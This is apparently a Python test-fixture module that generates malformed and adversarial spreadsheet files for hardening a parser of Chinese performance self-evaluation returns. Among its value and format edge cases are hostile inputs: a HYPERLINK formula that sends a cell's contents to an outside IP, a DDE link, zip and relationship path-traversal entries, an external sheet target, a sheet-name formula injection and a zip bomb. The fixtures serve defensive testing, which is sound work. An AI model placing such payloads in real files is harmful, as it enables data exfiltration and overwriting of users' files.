"""The odd files that clerks send, each built in code, under a name of its own. None hurts any program that opens it.

A file over a limit passes it by a little; where the limit is high, `LIMITS_OF` lowers it for that file.

Most are a return without a fault (workbooks.clean: 100 points, cell 指标表!I3 holds the claim 20) with one thing odd about it.
Where the line is about a bare cell it is the smallest workbook there is: A1 得分, B1 95.5.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable, Iterable, Mapping
from functools import cache

from workbooks import clean, to_bytes, wide

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
BOOK = "xl/workbook.xml"
RELS = "xl/_rels/workbook.xml.rels"
STYLES = "xl/styles.xml"
_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_MIB = 1 << 20


# ---------------------------------------------------------------------------- tools of this room


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of a zip by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip of these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@cache
def good() -> bytes:
    """The return without a fault, its texts in a table of strings as Excel writes them."""
    parts = parts_of(to_bytes(clean()))
    texts: list[str] = []
    for name in (SHEET, SHEET.replace("1", "2")):
        parts[name] = re.sub(
            r't="inlineStr"><is>(<t.*?</t>)</is>',
            lambda found: f't="s"><v>{texts.append(found[1]) or len(texts) - 1}</v>',  # type: ignore[func-returns-value]
            parts[name].decode(),
            flags=re.DOTALL,
        ).encode()
    strings = "".join(f"<si>{text}</si>" for text in texts)
    parts[STRINGS] = f'<sst xmlns="{_NS}">{strings}</sst>'.encode()
    relation = f'<Relationship Id="s1" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    parts[RELS] = parts[RELS].replace(b"</Relationships>", f"{relation}</Relationships>".encode())
    kind = f'<Override PartName="/{STRINGS}" ContentType="{_TYPE}.sharedStrings+xml"/></Types>'
    types = "[Content_Types].xml"
    parts[types] = parts[types].replace(b"</Types>", kind.encode())
    return packed(parts)


def with_parts(more: Mapping[str, bytes | None], data: bytes = b"") -> bytes:
    """The good return with parts changed, added or (None) taken out."""
    parts: dict[str, bytes | None] = {**parts_of(data or good()), **more}
    return packed({name: content for name, content in parts.items() if content is not None})


def edited(part: str, *pairs: tuple[str, str]) -> bytes:
    """The good return with text replaced, once each, in one part."""
    text = parts_of(good())[part].decode()
    for old, new in pairs:
        assert old in text, (part, old)
        text = text.replace(old, new, 1)
    return with_parts({part: text.encode()})


def claim(inner: str, attributes: str = "") -> bytes:
    """The good return with the XML of the claim's cell I3 written anew."""
    return edited(SHEET, (_claim_cell(), f'<c r="I3"{attributes}>{inner}</c>'))


def _claim_cell() -> str:
    found = re.search(r'<c r="I3"[^>]*>.*?</c>', parts_of(good())[SHEET].decode())
    assert found
    return found[0]


def typed(text: str) -> bytes:
    """The claim as text."""
    return claim(f"<is><t>{text}</t></is>", ' t="inlineStr"')


def styled(number: str, number_format: str, **workbook: str) -> bytes:
    """The claim as a number shown in a format."""
    book = clean()
    book["指标表"]["I3"].number_format = number_format
    text = parts_of(to_bytes(book))[SHEET].decode()
    text = re.sub(r'(<c r="I3"[^>]*>)<v>[^<]*</v>', rf"\1<v>{number}</v>", text)
    parts: dict[str, bytes | None] = {SHEET: text.encode()}
    for old, new in workbook.items():
        found = parts_of(to_bytes(book))[BOOK].decode()
        assert old in found
        parts[BOOK] = found.replace(old, new, 1).encode()
    return with_parts(parts, to_bytes(book))


ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>得分</t></is></c><c r="B1"><v>95.5</v></c></row>'


def tiny(rows: str = ROW, sheet: str = "", **parts: str) -> bytes:
    """The smallest workbook: `rows` of its only sheet, or the whole XML of it."""
    body = sheet or f'<worksheet xmlns="{_NS}"><sheetData>{rows}</sheetData></worksheet>'
    return packed(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/{BOOK}" ContentType="{_TYPE}.sheet.main+xml"/>'
                f'<Override PartName="/{SHEET}" ContentType="{_TYPE}.worksheet+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            BOOK: (
                f'<workbook xmlns="{_NS}" xmlns:r="{_REL}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            RELS: (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            SHEET: body.encode(),
        }
        | {name: text.encode() for name, text in parts.items()}
    )


# ------------------------------------------------------------------------- c: other than it says


def c02_truncated() -> bytes:
    return good()[: len(good()) * 2 // 3]


def c03_plaintext() -> bytes:
    return "部门整体支出绩效自评情况说明\r\n本单位自评得分为95.5分。\r\n".encode("gbk")


def c04_html() -> bytes:
    return (
        "<html><meta charset=gbk><table><tr><td>得分</td><td>95.5</td></tr></table></html>".encode(
            "gbk"
        )
    )


def c05_xml2003() -> bytes:
    return (
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        '<Worksheet ss:Name="表"><Table><Row><Cell><Data ss:Type="String">得分</Data></Cell>'
        '<Cell><Data ss:Type="Number">95.5</Data></Cell></Row></Table></Worksheet></Workbook>'
    ).encode()


def c12_docx() -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = "<w:body><w:p><w:r><w:t>得分95.5</w:t></w:r></w:p></w:body>"
    document = f'<w:document xmlns:w="{word}">{body}</w:document>'
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": document.encode()})


def c13_high_ratio() -> bytes:
    """A part that inflates some hundredfold to 1.1 MB, where 1 MB is allowed."""
    return with_parts({"xl/media/x.xml": bytes(_MIB + _MIB // 10)})


def c15_over_the_part_limit() -> bytes:
    """A table of strings of 110 kB, where 100 kB are allowed."""
    return edited(STRINGS, ("</sst>", f"<si><t>{'甲' * 37_000}</t></si></sst>"))


def c16_many_entries() -> bytes:
    return with_parts({f"xl/x{number}": b"" for number in range(10_001)})


def c17_dup_entry() -> bytes:
    buffer = io.BytesIO(good())
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(SHEET, parts_of(good())[SHEET].replace(b"<v>20</v>", b"<v>10</v>"))
    return buffer.getvalue()


def c19_bad_crc() -> bytes:
    data = bytearray(good())
    place = data.rindex(SHEET.encode()) - 30  # of the central directory
    data[place : place + 4] = struct.pack("<I", 0x12345678)
    return bytes(data)


# ------------------------------------------------------------------------------------- o: ods


ODS = "urn:oasis:names:tc:opendocument:xmlns"
_PREFIXES = {
    "office": "office",
    "table": "table",
    "text": "text",
    "style": "style",
    "number": "datastyle",
}


def ods(rows: str, styles: str = "") -> bytes:
    """An .ods with one sheet of these rows."""
    declared = "".join(f' xmlns:{name}="{ODS}:{of}:1.0"' for name, of in _PREFIXES.items())
    content = (
        f"<office:document-content{declared}><office:automatic-styles>{styles}</office:automatic-styles>"
        f'<office:body><office:spreadsheet><table:table table:name="表">{rows}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": mimetype, "content.xml": content.encode()})


def ods_row(*cells: str, times: int = 1) -> str:
    """A row of an .ods, repeated so many times."""
    return (
        f'<table:table-row table:number-rows-repeated="{times}">{"".join(cells)}</table:table-row>'
    )


def ods_cell(kind: str = "", value: str = "", text: str = "", times: int = 1) -> str:
    """A cell of an .ods, repeated so many times."""
    held = f' office:value-type="{kind}"' if kind else ""
    held += f' office:value="{value}"' if value else ""
    shown = f"<text:p>{text}</text:p>" if text else ""
    return f'<table:table-cell table:number-columns-repeated="{times}"{held}>{shown}</table:table-cell>'


LABEL = ods_cell("string", text="得分")


def o01_over_the_cell_limit() -> bytes:
    """A cell repeated over 26 columns and 40 rows, where 1,000 cells are allowed."""
    return ods(ods_row(ods_cell("float", "1", times=26), times=40))


def o02_trailing_repeat() -> bytes:
    held = ods_row(LABEL, ods_cell("float", "95.5"), ods_cell(times=16_382))
    return ods(held + ods_row(ods_cell(times=16_384), times=1_048_575))


def o03_percentage() -> bytes:
    return ods(ods_row(LABEL, ods_cell("percentage", "0.955", "95.50%")))


# --------------------------------------------------------------------------- v: values of a cell


def v10_dde() -> bytes:
    link = f'<externalLink xmlns="{_NS}"><ddeLink xmlns:r="{_REL}" ddeService="甲" ddeTopic="乙.docx"/></externalLink>'
    return with_parts(
        {"xl/externalLinks/externalLink1.xml": link.encode()},
        claim("<f>甲|'乙.docx'!A1</f><v>20</v>"),
    )


def v23_rph() -> bytes:
    return tiny(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>得分</t><rPh sb="0" eb="2"><t>トクテン</t></rPh></is></c><c r="B1"><v>95.5</v></c></row>'
    )


def v24_richtext() -> bytes:
    return tiny(
        '<row r="1"><c r="A1" t="inlineStr"><is><r><t>得</t></r><r><rPr><b/></rPr><t>分</t></r></is></c><c r="B1"><v>95.5</v></c></row>'
    )


def v31_shared_formula() -> bytes:
    return tiny(
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>2</v></c></row>'
        '<row r="2"><c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="0"/><v>4</v></c></row>'
        '<row r="3"><c r="A3"><v>3</v></c><c r="B3"><f t="shared" si="0"/><v>6</v></c></row>'
    )


# ----------------------------------------------------------------------- w: workbooks and sheets


def sheet_with(end: str = "", rows: str = "") -> bytes:
    """The good return with rows added below, and elements after the cells."""
    return edited(SHEET, ("</sheetData>", f"{rows}</sheetData>{end}"))


def w06_rows_out_of_order() -> bytes:
    text = parts_of(good())[SHEET].decode()
    rows = re.findall(r"<row .*?</row>", text, re.DOTALL)
    head, tail = text.split(rows[0], 1)[0], text.rsplit(rows[-1], 1)[1]
    return with_parts({SHEET: (head + "".join(reversed(rows)) + tail).encode()})


def w07_no_refs() -> bytes:
    return tiny('<row><c t="inlineStr"><is><t>得分</t></is></c><c><v>95.5</v></c></row>')


def merged(areas: Iterable[str]) -> str:
    """The element of these merged areas."""
    drawn = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    return f"<mergeCells>{drawn}</mergeCells>"


def w13_styled_blanks() -> bytes:
    def row(number: int) -> str:
        cells = "".join(f'<c r="{letter}{number}" s="0"/>' for letter in "ABCDEFGHIJ")
        return f'<row r="{number}">{cells}</row>'

    return sheet_with(rows="".join(row(number) for number in range(100, 20_100)))


def w17_over_the_sheet_limit() -> bytes:
    """The two sheets and 254 more."""
    sheets = "".join(
        f'<sheet name="表{n}" sheetId="{n + 10}" r:id="x{n}" xmlns:r="{_REL}"/>' for n in range(254)
    )
    rels = "".join(
        f'<Relationship Id="x{n}" Type="{_REL}/worksheet" Target="worksheets/x{n}.xml"/>'
        for n in range(254)
    )
    data = edited(BOOK, ("</sheets>", f"{sheets}</sheets>"))
    text = parts_of(data)[RELS].decode().replace("</Relationships>", f"{rels}</Relationships>")
    parts: dict[str, bytes | None] = {RELS: text.encode()}
    for n in range(254):
        parts[f"xl/worksheets/x{n}.xml"] = f'<worksheet xmlns="{_NS}"><sheetData/></worksheet>'.encode()  # fmt: skip
    return with_parts(parts, data)


def w18_hidden_sheet() -> bytes:
    book = clean()
    book["基础数据表"].sheet_state = "hidden"
    return to_bytes(book)


def w24_sheet_name() -> bytes:
    book = clean()
    book["指标表"].title = "=HYPERLINK('x')&amp;"
    return to_bytes(book)


# ------------------------------------------------------------------------------------- x: XML


def declared(part: str, doctype: str, *pairs: tuple[str, str]) -> bytes:
    """The good return with a document type before a part."""
    text = parts_of(good())[part].decode()
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", text)
    for old, new in pairs:
        text = text.replace(old, new, 1)
    return with_parts({part: (doctype + text).encode()})


def x05_utf16() -> bytes:
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", parts_of(good())[SHEET].decode())
    return with_parts({SHEET: ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")})


def x06_gbk() -> bytes:
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", parts_of(good())[STRINGS].decode())
    return with_parts({STRINGS: ('<?xml version="1.0" encoding="GBK"?>' + text).encode("gbk")})


def x06_gbk_undeclared() -> bytes:
    return with_parts({STRINGS: parts_of(good())[STRINGS].decode().encode("gbk")})


def x09_prefix() -> bytes:
    text = parts_of(good())[SHEET].decode()
    text = re.sub(r"<(/?)([A-Za-z])", r"<\1x:\2", text).replace("xmlns=", "xmlns:x=")
    return with_parts({SHEET: text.encode()})


def x10_strict() -> bytes:
    strict = "http://purl.oclc.org/ooxml"
    parts: dict[str, bytes | None] = {}
    for name, content in parts_of(good()).items():
        text = content.decode()
        text = text.replace(_NS, f"{strict}/spreadsheetml/main")
        text = text.replace(_REL, f"{strict}/officeDocument/relationships")
        parts[name] = text.encode()
    return with_parts(parts)


LIMITS_OF: dict[str, dict[str, int]] = {
    "c13_high_ratio.xlsx": {"thin_part_bytes": _MIB},
    "c15_over_the_part_limit.xlsx": {"part_bytes": 100 * 1024},
    "o01_over_the_cell_limit.ods": {"cells": 1000},
    "w16_over_the_merge_limit.xlsx": {"merges": 100},
}
"""The limits that are lowered for a file."""
Make = Callable[[], bytes]
FILES: dict[str, Make] = {
    "._c11_appledouble.xlsx": lambda: b"\x00\x05\x16\x07" + bytes(100),
    "c00_control_ok.xlsx": tiny,
    "c01_empty.xlsx": lambda: b"",
    "c02_truncated.xlsx": c02_truncated,
    "c03_plaintext.xlsx": c03_plaintext,
    "c04_html_as.xls": c04_html,
    "c05_xml2003.xls": c05_xml2003,
    "c06_pdf.xlsx": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "c07_rar.xlsx": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(50),
    "c08_xlsx_as.xls": good,
    "c09_xlsx_as.et": good,
    "~$c10_lock.xlsx": lambda: b"\x05user" + bytes(160),
    "c12_docx_as.xlsx": c12_docx,
    "c13_high_ratio.xlsx": c13_high_ratio,
    "c15_over_the_part_limit.xlsx": c15_over_the_part_limit,
    "c16_many_entries.xlsx": c16_many_entries,
    "c17_dup_entry.xlsx": c17_dup_entry,
    "c18_traversal.xlsx": lambda: with_parts({"../../外面.txt": b"x"}),
    "c19_bad_crc.xlsx": c19_bad_crc,
    "c20_prefixed_junk.xlsx": lambda: b"MZ" + bytes(500) + good(),
    "c21_appended_junk.xlsx": lambda: good() + b"\r\n" * 20,
    "o01_over_the_cell_limit.ods": o01_over_the_cell_limit,
    "o02_trailing_repeat.ods": o02_trailing_repeat,
    "o03_percentage.ods": o03_percentage,
    "v01_nan.xlsx": lambda: claim("<v>NaN</v>"),
    "v02_inf.xlsx": lambda: claim("<v>1e999</v>"),
    "v03_inf_word.xlsx": lambda: claim("<v>INF</v>"),
    "v04_text_in_n.xlsx": lambda: claim("<v>约二十</v>", ' t="n"'),
    "v05_error_div0.xlsx": lambda: claim("<v>#DIV/0!</v>", ' t="e"'),
    "v06_bool.xlsx": lambda: claim("<v>1</v>", ' t="b"'),
    "v07_formula_no_cache.xlsx": lambda: claim("<f>10+10</f>"),
    "v08_formula_stale.xlsx": lambda: claim("<f>10+10</f><v>12</v>"),
    "v09_formula_string_cache.xlsx": lambda: claim('<f>"2"&amp;"0"</f><v>20</v>', ' t="str"'),
    "v10_dde.xlsx": v10_dde,
    "v11_hyperlink_exfil.xlsx": lambda: claim(
        '<f>HYPERLINK("http://192.0.2.1/?x="&amp;A1,"20")</f><v>20</v>', ' t="str"'
    ),
    "v12_text_equals.xlsx": lambda: typed("=1+1"),
    "v13_xml_escape.xlsx": lambda: typed("2_x0001_0"),
    "v14_fullwidth.xlsx": lambda: typed(wide("20.0")),
    "v15_zero_width.xlsx": lambda: typed("2\u200b0"),
    "v16_rtl_override.xlsx": lambda: typed("\u202e02"),
    "v17_chinese_number.xlsx": lambda: typed("二十"),
    "v18_range.xlsx": lambda: typed("18-20"),
    "v19_unit_suffix.xlsx": lambda: typed("20分"),
    "v20_percent_fmt.xlsx": lambda: styled("0.2", "0%"),
    "v21_date_fmt_score.xlsx": lambda: styled("20", "yyyy-mm-dd"),
    "v22_date1904.xlsx": lambda: styled(
        "44000", "yyyy-mm-dd", **{"<workbookPr": '<workbookPr date1904="1"'}
    ),
    "v23_rph_phonetic.xlsx": v23_rph,
    "v24_richtext.xlsx": v24_richtext,
    "v25_32768_chars.xlsx": lambda: edited(
        SHEET,
        (
            "</sheetData>",
            f'<row r="9"><c r="A9" t="inlineStr"><is><t>{"注" * 32_768}</t></is></c></row></sheetData>',
        ),
    ),
    "v26_ext_b_hanzi.xlsx": lambda: tiny(ROW.replace("得分", "𠮷𡘙得分")),
    "v27_float_repr.xlsx": lambda: tiny(ROW.replace("95.5", "2.6749999999999998")),
    "v28_int_precision.xlsx": lambda: claim("<v>12345678901234567</v>"),
    "v29_neg_zero.xlsx": lambda: claim("<v>-0</v>"),
    "v30_iso_date_cell.xlsx": lambda: claim("<v>2024-02-30T00:00:00</v>", ' t="d"'),
    "v31_shared_formula.xlsx": v31_shared_formula,
    "v32_date_huge.xlsx": lambda: styled("99999999999", "yyyy-mm-dd"),
    "v33_date_negative.xlsx": lambda: styled("-5", "yyyy-mm-dd"),
    "v34_1900_02_29.xlsx": lambda: styled("60", "yyyy-mm-dd"),
    "w01_no_sst.xlsx": lambda: with_parts({STRINGS: None}),
    "w02_no_styles.xlsx": lambda: with_parts({STYLES: None}),
    "w03_sst_index_out_of_range.xlsx": lambda: claim("<v>99999</v>", ' t="s"'),
    "w04_dup_cell.xlsx": lambda: edited(
        SHEET, (_claim_cell(), _claim_cell() + '<c r="I3"><v>10</v></c>')
    ),
    "w05_dup_row.xlsx": lambda: sheet_with(rows='<row r="3"><c r="J3"><v>10</v></c></row>'),
    "w06_rows_out_of_order.xlsx": w06_rows_out_of_order,
    "w07_no_refs.xlsx": w07_no_refs,
    "w08_bad_refs.xlsx": lambda: edited(SHEET, ('r="I3"', 'r="3I"')),
    "w09_dim_lies_full.xlsx": lambda: edited(
        SHEET, ("<sheetData>", '<dimension ref="A1:ZZ5000"/><sheetData>')
    ),
    "w10_over_the_column_limit.xlsx": lambda: sheet_with(
        rows='<row r="9"><c r="BXY9"><v>1</v></c></row>'
    ),
    "w11_over_the_row_limit.xlsx": lambda: sheet_with(
        rows='<row r="200001"><c r="A200001"><v>1</v></c></row>'
    ),
    "w12_20k_empty_styled_rows.xlsx": lambda: sheet_with(
        rows="".join(f'<row r="{n}" s="0" customFormat="1"/>' for n in range(100, 20_100))
    ),
    "w13_200k_styled_blank_cells.xlsx": w13_styled_blanks,
    "w14_overlapping_merges.xlsx": lambda: sheet_with(end=merged(["A1:B1", "B1:C1"])),
    "w15_wide_merge.xlsx": lambda: sheet_with(end=merged(["K1:ZZ20"])),
    "w16_over_the_merge_limit.xlsx": lambda: sheet_with(
        end=merged(f"K{n}:L{n}" for n in range(1, 102))
    ),
    "w17_over_the_sheet_limit.xlsx": w17_over_the_sheet_limit,
    "w18_hidden_sheet.xlsx": w18_hidden_sheet,
    "w19_external_rel.xlsx": lambda: edited(
        RELS,
        (
            'Target="/xl/worksheets/sheet1.xml"',
            'Target="http://192.0.2.1/s.xml" TargetMode="External"',
        ),
    ),
    "w20_rel_target_traversal.xlsx": lambda: edited(
        RELS, ('Target="/xl/worksheets/sheet1.xml"', 'Target="../../../别处/表.xml"')
    ),
    "w21_no_sheets.xlsx": lambda: with_parts(
        {BOOK: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", parts_of(good())[BOOK])}
    ),
    "w22_bad_style_index.xlsx": lambda: claim("<v>20</v>", ' s="9999"'),
    "w23_xlsm_in_xlsx.xlsx": lambda: with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "w24_sheet_name_injection.xlsx": w24_sheet_name,
    "x01_dtd_in_sst.xlsx": lambda: declared(STRINGS, "<!DOCTYPE sst>"),
    "x04_dtd_in_sheet.xlsx": lambda: declared(SHEET, "<!DOCTYPE worksheet>"),
    "x05_utf16_sheet.xlsx": x05_utf16,
    "x06_gbk_sst.xlsx": x06_gbk,
    "x07_not_wellformed.xlsx": lambda: edited(SHEET, ("</sheetData>", "</sheetDatax>")),
    "x09_prefix_ns.xlsx": x09_prefix,
    "x10_strict_ns.xlsx": x10_strict,
}
